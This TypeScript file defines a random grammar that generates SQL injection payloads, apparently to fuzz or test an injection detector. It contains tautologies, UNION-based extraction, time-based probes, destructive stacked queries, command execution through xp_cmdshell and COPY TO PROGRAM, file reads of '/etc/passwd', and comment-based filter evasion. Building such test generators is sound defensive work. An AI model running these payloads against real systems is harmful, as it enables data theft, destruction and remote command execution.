import { texts, type Grammar } from './random.ts'

/**
 * Attacks on SQL by family: `attack` is where a text begins. Texts are parted by `¦`; `~` is a blank that may be written otherwise, and
 * \x01 the operator `~`.
 */
export const sqlGrammar: Grammar = {
  attack: texts(`
    {prefix}~{logic}~{condition}{suffix} ¦ {prefix}~{logic}~{condition}{suffix} ¦
    {prefix}~{logic}~not~{condition}{suffix} ¦ {prefix}~{union}{suffix} ¦ {prefix}~{union}{suffix} ¦
    {prefix};~{statement}{suffix} ¦ {prefix};~{statement}{suffix} ¦ {prefix}~{clause}{suffix} ¦
    {prefix}{calc}{expression}{suffix} ¦ {prefix}{calc}{subquery}{suffix} ¦ {prefix}~{logic}~{call}{suffix} ¦
    {prefix}~{logic}~{subquery}{suffix} ¦ {prefix}{concat}{expression}{concat}{reopen} ¦
    {prefix}~{logic}~{condition}~{logic}~{reopened} ¦ {quote}{closes}~{logic}~{condition}~{logic}~{opens}{reopened} ¦
    {number}{closes}~{logic}~{condition}~{logic}~{opens}{number}={number} ¦
    {prefix}~into~outfile~'/tmp/{name}'{suffix} ¦ {prefix}~into~dumpfile~{string}{suffix} ¦
    {prefix}~{compare}~{subquery}{suffix} ¦ {prefix}~procedure~analyse({call},1){suffix} ¦ {prefix}{row}{suffix} ¦
    {subquery} ¦ {call} ¦ {case} ¦ {statement} ¦ {union} ¦ {select} ¦ {prefix}{comment} ¦
    {prefix}~{logic}~{prefix}{comment} ¦ {quote}~{logic}~{value}{suffix} ¦ {quote}{calc}{value}{suffix} ¦
    {quote}{calc}{value}{calc}{reopen} ¦ {prefix}~{like}{suffix} ¦ {prefix}~in~({list}){suffix} ¦
    {prefix}~between~{value}~and~{value}{suffix} ¦ {prefix}~collate~utf8_bin~{logic}~{condition}{suffix} ¦
    ({condition}) ¦ {condition} ¦ {expression}{suffix} ¦ {number}{executed} ¦ {prefix}/*!{version}{bare}*/{suffix} ¦
    {prefix}~{logic}/*!{version}{condition}*/`),
  bare: texts(`
    ~{logic}~{condition} ¦ union~{select} ¦ ;{statement} ¦ ~{clause}`),
  executed: texts(`
    /*!{version}~union*/~/*!{version}select*/~{list}{suffix} ¦ /*!{version}and*/~{condition} ¦
    /*!{version}or~{condition}*/ ¦ /*!*/union/*!*/select/*!*/{list}`),
  version: texts(`
    {none} ¦ {none} ¦ 0 ¦ 00000 ¦ 50000 ¦ 12345`),
  quote: texts(`
    ' ¦ " ¦ {word}' ¦ {word}" ¦ {number}' ¦ {number}" ¦ \` ¦ {word}%' ¦ \\' ¦ {word}\\'`),
  closes: texts(`
    {none} ¦ ) ¦ )) ¦ )))`),
  opens: texts(`
    {none} ¦ ( ¦ (( ¦ (((`),
  prefix: texts(`
    {quote} ¦ {quote} ¦ {quote}{closes} ¦ {number} ¦ {number} ¦ {number}{closes} ¦ -{number} ¦ {number}.{number} ¦
    {word} ¦ ({number}) ¦ ({string}) ¦ @{name} ¦ null ¦ {string} ¦ 0x{hex} ¦ {call} ¦ {number}. ¦ .{number} ¦
    {number}e0 ¦ {word}' ¦ {word}') ¦ {quote}{quote} ¦ '{word} ¦ {inverse}{number} ¦ !{number} ¦ @@version ¦ \\N ¦
    true`),
  suffix: texts(`
    {none} ¦ {none} ¦ {none} ¦ ~-- ¦ -- ¦ --{sp} ¦ --+ ¦ -- - ¦ # ¦ /* ¦ ; ¦ ;-- ¦ --\\n ¦ \` ¦ --~{word} ¦
    #{word} ¦ /*{word}*/ ¦ {sp}limit~{number}-- ¦ ~{logic}~'{word}'='{word} ¦ ~{logic}~"{word}"="{word} ¦
    ~{logic}~('{word}'='{word} ¦ {closes}-- ¦ ~or~' ¦ ~and~'{word}'~like~'{word} ¦ {nul} ¦ ~as~{name} ¦ ;# ¦ ' ¦ ||' ¦
    +' ¦ --' ¦ ~{logic}~({number}={number} ¦ \\`),
  reopen: texts(`
    ' ¦ '{word} ¦ " ¦ "{word} ¦ '{number}`),
  reopened: texts(`
    '{word}'='{word} ¦ '{number}'='{number} ¦ "{word}"="{word} ¦ ''=' ¦ ' ¦ " ¦ '{word}'~like~'{word} ¦
    '{word}'<'{word} ¦ '{word}`),
  number: texts(`
    1 ¦ 0 ¦ 2 ¦ 7 ¦ -1 ¦ 42 ¦ 1337 ¦ 9999 ¦ 1.5 ¦ 0x1 ¦ 1e1 ¦ 100 ¦ 12345678`),
  hex: texts(`
    31 ¦ 61646d696e ¦ 7e ¦ 414243 ¦ 3a ¦ ff`),
  name: texts(`
    users ¦ id ¦ a ¦ x ¦ password ¦ passwd ¦ tbl ¦ admin ¦ foo ¦ name ¦ email ¦ c1 ¦ pass_word`),
  word: texts(`
    {none} ¦ a ¦ x ¦ foo ¦ admin ¦ test ¦ abc ¦ 1 ¦ 42 ¦ zz ¦ hi there`),
  string: texts(`
    '{word}' ¦ '{word}' ¦ "{word}" ¦ n'{word}' ¦ x'{hex}' ¦ b'01' ¦ _utf8'{word}' ¦ q'[{word}]' ¦ $\${word}$$ ¦
    u&'{word}' ¦ e'{word}'`),
  value: texts(`
    {number} ¦ {number} ¦ {string} ¦ {string} ¦ {name} ¦ @{name} ¦ @@{name} ¦ 0x{hex} ¦ null ¦ true ¦ false ¦
    ({value}) ¦ -{value} ¦ {inverse}{value} ¦ !{value} ¦ +{value} ¦ {call} ¦ {subquery} ¦ current_user ¦ not~{value} ¦
    {number}{calc}{number} ¦ \`{name}\` ¦ {name}.{name} ¦ binary~{value} ¦ {value}::int`),
  logic: texts(`
    or ¦ and ¦ or ¦ and ¦ || ¦ && ¦ xor ¦ OR ¦ AND ¦ div ¦ | ¦ & ¦ ^ ¦ having ¦ where ¦ and~not ¦ or~not`),
  calc: texts(`
    + ¦ - ¦ * ¦ / ¦ % ¦ | ¦ & ¦ ^ ¦ ~div~ ¦ ~mod~ ¦ << ¦ >> ¦ {inverse} ¦ || ¦ +~ ¦ {sp}-{sp} ¦ - ¦ ,`),
  concat: texts(`
    || ¦ + ¦ ~||~ ¦ ~+~ ¦ - ¦ * ¦ ~ ¦ | ¦ ^`),
  compare: texts(`
    = ¦ > ¦ < ¦ <= ¦ >= ¦ <> ¦ != ¦ <=> ¦ like ¦ not~like ¦ rlike ¦ regexp ¦ is ¦ is~not ¦ == ¦ !< ¦ !> ¦ ~* ¦
    sounds~like ¦ glob ¦ in ¦ not~in ¦ := ¦ ^= ¦ ilike ¦ similar~to`),
  condition: texts(`
    {number}={number} ¦ {number}={number} ¦ {value}{compare2}{value} ¦ {value}~{compare}~{value} ¦ '{word}'='{word}' ¦
    "{word}"="{word}" ¦ ({condition}) ¦ {condition}~{logic}~{condition} ¦ {value} ¦ exists~{subquery} ¦
    exists({select}) ¦ {value}~between~{value}~and~{value} ¦ {value}~in~({list}) ¦ {value}~is~null ¦
    {call}{compare2}{value} ¦ {name}~{compare}~{subquery} ¦ {subquery}{compare2}{value} ¦ {call} ¦ not~{condition} ¦
    ({value})=({value}) ¦ {value}={value}={value} ¦ {name}~is~not~null ¦ ({list})=({list}) ¦ row({list})>{subquery} ¦
    {value}~like~{string}~escape~{string} ¦ {string}~{string}`),
  compare2: texts(`
    = ¦ > ¦ < ¦ >= ¦ <= ¦ <> ¦ != ¦ <=> ¦ ~=~ ¦ ~>~ ¦ {sp}={sp}`),
  like: texts(`
    like~{string} ¦ not~like~{string} ¦ rlike~{value} ¦ regexp~{string} ¦ regexp~binary~{string} ¦
    rlike~sleep({number}) ¦ sounds~like~{string}`),
  list: texts(`
    {number} ¦ {number},{number} ¦ {value} ¦ {value},{value} ¦ {list},{value} ¦ null,null ¦ * ¦ {number},{call} ¦
    '{word}',{number} ¦ {name} ¦ {name},{name} ¦ {call} ¦ {number},{name},{number} ¦ null,{call},null ¦
    concat({name},0x3a,{name}) ¦ {value}~as~{name} ¦ top~1~{name} ¦ distinct~{name}`),
  from: texts(`
    {none} ¦ {none} ¦ ~from~{name} ¦ ~from~{name} ¦ ~from~{name}.{name} ¦ ~from~information_schema.tables ¦ ~from~dual ¦
    ~from~{name}~where~{condition} ¦ ~from~{name}~limit~{number},{number} ¦ ~from~{name}~order~by~{number} ¦
    ~from~{subquery}~{name} ¦ ~from~{subquery}~as~{name} ¦ ~from~{name}~a,{name}~b ¦
    ~from~sysobjects~where~xtype=char(85) ¦ ~from~{name}~join~{name}~on~{condition} ¦ ~from~pg_user ¦ ~from~all_tables ¦
    ~from~sqlite_master ¦ ~into~@{name} ¦ ~from~\`{name}\` ¦ ~from~[{name}] ¦ ~from({name}) ¦
    ~from~{name}~group~by~{name}~having~{condition} ¦ ~where~{condition} ¦ ~limit~{number}`),
  select: texts(`
    select~{list}{from} ¦ select~{list}{from} ¦ select({list}){from} ¦ select~all~{list}{from} ¦
    select~distinct~{list}{from} ¦ select/**/{list}{from} ¦ select-{number}{from} ¦ select@{name} ¦
    select~top~1~{name}{from} ¦ select'{word}' ¦ select~{list}{from}~union~{select} ¦ select~sql_cache~{list}{from}`),
  subquery: texts(`
    ({select}) ¦ ({select}) ¦ (({select})) ¦ (~{select}~)`),
  union: texts(`
    union~{select} ¦ union~{select} ¦ union~all~{select} ¦ union~all~{select} ¦ union~distinct~{select} ¦
    union~distinctrow~{select} ¦ union({select}) ¦ union~all({select}) ¦ union(({select})) ¦ intersect~{select} ¦
    except~{select} ¦ minus~{select} ¦ union~{subquery}~order~by~{number} ¦ union~values({list}) ¦
    union all select null,null,null ¦ union~select`),
  case: texts(`
    case~when~{condition}~then~{value}~else~{value}~end ¦ case~{value}~when~{value}~then~{value}~end ¦
    (case~when~({condition})~then~{value}~else~{value}~end) ¦ case(1)when(1)then(1)else(2)end`),
  expression: texts(`
    {value} ¦ {value} ¦ {call} ¦ {subquery} ¦ ({expression}) ¦ {expression}{calc}{expression} ¦ {case} ¦
    if({condition},{value},{value}) ¦ {call}{compare2}{value} ¦ ({expression}){calc}({expression})`),
  call: texts(`
    version() ¦ sleep({number}) ¦ sleep({number}) ¦ benchmark({number},md5({string})) ¦ pg_sleep({number}) ¦
    database() ¦ user() ¦ if({condition},{value},{value}) ¦ if({condition},sleep({number}),0) ¦
    char({number},{number}) ¦ chr({number})||chr({number}) ¦ concat({list}) ¦ concat_ws({list}) ¦
    extractvalue({number},concat(0x7e,{call})) ¦ updatexml(1,concat(0x7e,{subquery}),1) ¦ load_file({string}) ¦
    ascii(substring({subquery},{number},1)) ¦ ascii(substr({call},1,1)) ¦ mid({call},1,1) ¦ left({call},{number}) ¦
    length({call}) ¦ len({name}) ¦ hex({value}) ¦ unhex(hex({value})) ¦ cast({value}~as~int) ¦ convert(int,{subquery}) ¦
    convert({value}~using~utf8) ¦ count(*) ¦ floor(rand(0)*2) ¦ md5({value}) ¦ coalesce({list}) ¦
    ifnull({value},{value}) ¦ nullif({value},{value}) ¦ greatest({list}) ¦ make_set({list}) ¦ elt({list}) ¦
    field({list}) ¦ group_concat({name}) ¦ xmltype({subquery}) ¦ utl_inaddr.get_host_name({subquery}) ¦
    utl_http.request({string}) ¦ dbms_pipe.receive_message({string},{number}) ¦ ctxsys.drithsx.sn(1,{subquery}) ¦
    dbms_lock.sleep({number}) ¦ sys.fn_sqlvarbasetostr({value}) ¦ master..fn_listextendedproperty(0) ¦
    randomblob({number}) ¦ like({string},{call}) ¦ upper(hex(randomblob({number}))) ¦
    substring({string}~from~{number}~for~{number}) ¦ position({string}~in~{value}) ¦ trim(both~{value}~from~{value}) ¦
    extract(year~from~{value}) ¦ generate_series(1,{number}) ¦ current_setting({string}) ¦
    query_to_xml({string},true,true,{string}) ¦ json_extract({list}) ¦ row_count() ¦ getdate() ¦ pi() ¦ rand() ¦ now() ¦
    uuid() ¦ curdate() ¦ conv({value},10,36) ¦ instr({list}) ¦ ord({call}) ¦ bin({number}) ¦ strcmp({value},{value}) ¦
    exp({inverse}{subquery}) ¦ geometrycollection({subquery}) ¦ name_const({string},{number}) ¦
    iif({condition},{value},{value}) ¦ space({number}) ¦ reverse({string}) ¦ lpad({list}) ¦ current_user() ¦
    system_user() ¦ schema() ¦ is_srvrolemember({string}) ¦ db_name({number}) ¦ object_id({string}) ¦ to_char({value}) ¦
    nvl({value},{value}) ¦ decode({list}) ¦ bitand({value},{value}) ¦ rawtohex({string}) ¦ cos({value}) ¦ sin({value}) ¦
    abs({value}) ¦ {name}({list}) ¦ sqlite_version() ¦ load_extension({string}) ¦ changes() ¦ typeof({value}) ¦
    last_insert_id() ¦ found_rows() ¦ connection_id() ¦ aes_encrypt({value},{value}) ¦ password({string}) ¦
    compress({value}) ¦ interval({list}) ¦ values({name}) ¦ fn_my_permissions(null,{string}) ¦
    st_latfromgeohash({call}) ¦ json_keys({subquery}) ¦ gtid_subset({call},{number}) ¦ xmlagg({value}) ¦
    sleep~({number}) ¦ version~() ¦ right({value},1) ¦ replace({list}) ¦ lower({value}) ¦ date_format({list}) ¦
    unix_timestamp() ¦ nextval({string})`),
  clause: texts(`
    order~by~{number} ¦ order~by~{number},{number} ¦ order~by~{name}~desc ¦ order~by~{expression} ¦ order~by~{case} ¦
    group~by~{name}~having~{condition} ¦ group~by~{number} ¦ having~{condition} ¦ having~{condition} ¦
    limit~{number},{number} ¦ limit~{number}~offset~{number} ¦ limit~{number}~procedure~analyse() ¦
    limit~{number}~into~outfile~{string} ¦ procedure~analyse({call},1) ¦ procedure~analyse() ¦ where~{condition} ¦
    for~update ¦ lock~in~share~mode ¦ as~{name}~where~{condition} ¦ from~{name}~where~{condition} ¦
    offset~{number}~rows ¦ order~by~{subquery} ¦ group~by~{call} ¦ group~by~{list}~{union} ¦ using~{name} ¦
    on~{condition} ¦ returning~{list} ¦ natural~join~{name} ¦ like~{string}~{logic}~{condition}`),
  row: texts(`
    ,{value},{value}) ¦ ,{call}) ¦ ),({list} ¦ ,{subquery} ¦ ),({number},{subquery}) ¦ ,{name}={subquery} ¦
    ,{name}={value}`),
  statement: texts(`
    drop~table~{name} ¦ drop~database~{name} ¦ select~{list}{from} ¦ select~pg_sleep({number}) ¦
    insert~into~{name}~values({list}) ¦ insert~into~{name}({name})~values({list}) ¦ update~{name}~set~{name}={value} ¦
    update~{name}~set~{name}={value}~where~{condition} ¦ delete~from~{name} ¦ delete~from~{name}~where~{condition} ¦
    exec~master..xp_cmdshell~'{word}' ¦ exec~xp_cmdshell~'dir' ¦ exec('{word}'+'{word}') ¦ exec~sp_{name}~{list} ¦
    execute~immediate~{string} ¦ declare~@{name}~varchar({number})~set~@{name}={value} ¦ declare~@{name}~int ¦
    waitfor~delay~'0:0:5' ¦ if({condition})~waitfor~delay~'0:0:5' ¦ if~{condition}~select~{list} ¦ shutdown ¦
    shutdown~with~nowait ¦ create~table~{name}({name}~int) ¦ create~user~{name}~identified~by~{string} ¦
    alter~table~{name}~add~{name}~int ¦ truncate~table~{name} ¦ begin~declare~@{name}~int~end ¦
    begin~dbms_lock.sleep(5);~end ¦ call~{name}({list}) ¦ set~@{name}={value} ¦ set~names~{name} ¦
    grant~all~on~{name}~to~{name} ¦ print~{value} ¦ copy~{name}~from~'/etc/passwd' ¦ copy~(select~'')~to~program~'id' ¦
    do~sleep({number}) ¦ handler~{name}~open ¦ attach~database~'/a.php'~as~{name} ¦ merge~into~{name}~using~{name} ¦
    use~{name} ¦ show~tables ¦ kill~{number} ¦ load~data~infile~{string}~into~table~{name} ¦
    bulk~insert~{name}~from~{string} ¦ backup~database~{name}~to~disk={string} ¦ with~{name}~as~({select})~{select} ¦
    if~exists({select})~{statement} ¦ while~{condition}~begin~{statement}~end ¦ replace~into~{name}~values({list}) ¦
    rename~table~{name}~to~{name} ¦ prepare~{name}~from~{string} ¦ commit ¦ rollback ¦ reconfigure ¦
    raiserror('a',1,1) ¦ dbcc~{name} ¦ lock~tables~{name}~write ¦ pragma~{name} ¦ vacuum ¦ analyze~{name} ¦
    explain~{select} ¦ open~{name} ¦ deallocate~{name} ¦ revoke~all~on~{name}~from~{name} ¦ checkpoint ¦
    values({list}) ¦ create~function~{name}~returns~string~soname~{string} ¦
    create~or~replace~function~{name}()~returns~int ¦ exec~sp_oacreate~'wscript.shell',@{name}~out ¦
    exec~sp_configure~{string},1;reconfigure ¦ discard~all ¦ listen~{name} ¦ notify~{name} ¦ table~{name} ¦
    desc~{name}`),
  comment: texts(`
    -- ¦ --{sp} ¦ # ¦ /* ¦ --+ ¦ /* {word} */ ¦ --{word} ¦ -- {word} ¦ ;-- ¦ --; ¦ -- - ¦ /**/ ¦ #{word} ¦
    --sp_password ¦ //`),
  sp: [' '],
  none: [''],
  inverse: ['\x01'],
  nul: ['\0'],
}

/** What a blank of the grammar may be written as. */
export const sqlBlanks: readonly string[] =
  ' ¦ ¦ ¦ ¦ ¦ ¦ ¦ ¦ ¦ ¦ ¦  ¦\t¦\n¦\r\n¦/**/¦/* */¦/*x*/¦\v¦\f¦\xa0¦--\n¦--x\n¦#x\n¦/*!*/¦/*/**/¦\0'.split('¦')
